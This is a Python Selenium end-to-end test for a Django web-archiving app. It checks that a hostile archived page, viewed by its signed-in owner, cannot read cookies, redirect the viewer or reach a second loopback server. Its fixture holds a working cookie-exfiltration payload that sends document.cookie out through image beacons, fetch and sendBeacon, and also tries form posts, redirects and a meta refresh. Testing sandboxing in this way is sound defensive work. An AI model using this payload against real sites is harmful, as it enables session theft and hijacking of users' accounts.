"""A hostile archived page, viewed by a signed-in owner in a real browser, reaches nothing.

The archived HTML reads `document.cookie`, loads scripts, styles, images and frames from a
second loopback server, posts a form, sends beacons and redirects the top window. The second
server counts every request it gets: it must get none, and the viewer page must stay put.
"""

from __future__ import annotations

import pytest
from django.urls import reverse
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec

from tests.factories import make_link, make_stored_snapshot
from tests.pages.server import FixtureServer
from tests.support.browser import become, chromium, wait
from tests.support.pageserver import hits

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]


def hostile_html(beacon_origin: str) -> str:
    """An archived page that tries to read cookies, phone home, submit a form and take the top window."""
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>敌意页面</title>
<link rel="stylesheet" href="{beacon_origin}/style.css">
<script src="{beacon_origin}/tracker.js"></script>
<style>body{{font-family:sans-serif}} .bg{{background:url({beacon_origin}/bg.png)}}</style>
</head><body class="bg">
<h1 id="heading">2025年统计报告</h1>
<p id="leak">untouched</p>
<table><tr><th>项目</th><th>数值</th></tr><tr><td>GDP</td><td>1,234.5</td></tr></table>
<img src="{beacon_origin}/x.png" alt="remote">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">
<iframe src="{beacon_origin}/frame.html"></iframe>
<form id="f" action="{beacon_origin}/submit" method="post"><input name="q" value="1"></form>
<script>
document.getElementById('leak').textContent = 'cookie:' + document.cookie;
document.title = 'pwned ' + document.cookie;
new Image().src = '{beacon_origin}/beacon?c=' + encodeURIComponent(document.cookie);
fetch('{beacon_origin}/fetch?c=' + encodeURIComponent(document.cookie)).catch(function(){{}});
navigator.sendBeacon && navigator.sendBeacon('{beacon_origin}/sendbeacon', document.cookie);
try {{ top.location = '{beacon_origin}/redirect'; }} catch (e) {{}}
document.getElementById('f').submit();
</script>
<img src="x" onerror="new Image().src='{beacon_origin}/onerror'">
<meta http-equiv="refresh" content="0;url={beacon_origin}/refresh">
</body></html>"""


@pytest.fixture
def beacon_server():
    server = FixtureServer().start()
    yield server
    server.stop()


def frame_is_loaded(driver) -> bool:
    """The archived document has finished loading, so every request it could make was attempted."""
    driver.switch_to.default_content()
    frame = driver.find_element(By.CSS_SELECTOR, "iframe.archive")
    driver.switch_to.frame(frame)
    loaded = driver.execute_script("return document.readyState") == "complete" and bool(
        driver.find_elements(By.ID, "heading")
    )
    driver.switch_to.default_content()
    return loaded


def test_hostile_archive_makes_no_requests_and_reads_no_cookie(live_server, owner, beacon_server):
    link = make_link(owner, "https://evil.example.com/", tags=["报告"])
    snapshot = make_stored_snapshot(link, html=hostile_html(beacon_server.origin), title="敌意页面")
    viewer = live_server.url + reverse("snapshots:snapshot_detail", args=[snapshot.pk])
    with chromium() as driver:
        become(driver, live_server.url, owner)
        driver.get(viewer)
        wait(driver).until(ec.presence_of_element_located((By.CSS_SELECTOR, "iframe.archive")))
        top_title = driver.title
        assert driver.get_cookie("csrftoken") is not None  # a script-readable cookie exists to steal
        wait(driver).until(frame_is_loaded)

        driver.switch_to.frame(driver.find_element(By.CSS_SELECTOR, "iframe.archive"))
        assert driver.find_element(By.ID, "leak").text == "untouched"  # the script never ran
        assert driver.execute_script("return document.title") == "敌意页面"
        assert "2025年统计报告" in driver.find_element(By.ID, "heading").text
        driver.switch_to.default_content()

        assert driver.current_url == viewer
        assert driver.title == top_title
        origins = driver.execute_script(
            "return performance.getEntriesByType('resource').map(e => new URL(e.name).origin)"
        )
        assert set(origins) <= {live_server.url}

        # The archived copy opened on its own, as a top-level document, is just as inert.
        driver.get(live_server.url + reverse("snapshots:snapshot_artifact", args=[snapshot.pk, "html"]))
        wait(driver).until(lambda d: d.execute_script("return document.readyState") == "complete")
        assert driver.find_element(By.ID, "leak").text == "untouched"
        assert driver.current_url.startswith(live_server.url)
        # Zero HTTP requests. (Chromium may pre-open a socket to a host named in raw markup; the
        # copies the engine stores keep no remote URL but plain links, see tests/capture.)
        assert beacon_server.requests == []

        # Control: the counting server does see a request when the browser is allowed to make one.
        driver.get(beacon_server.url("/control"))
        assert hits(beacon_server, "/control") == 1
